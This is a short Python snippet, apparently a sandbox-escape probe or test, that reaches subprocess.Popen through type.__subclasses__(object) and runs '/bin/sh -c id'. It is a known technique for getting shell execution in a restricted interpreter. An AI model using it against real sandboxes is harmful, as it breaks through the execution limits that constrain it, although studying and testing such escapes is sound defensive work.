# __subclasses__ fetched from the metaclass and called unbound on object.
listing = type.__subclasses__(object)
print(len(listing))
target = [c for c in listing if c.__name__ == "Popen"]
if target:
    target[0](["/bin/sh", "-c", "id"])
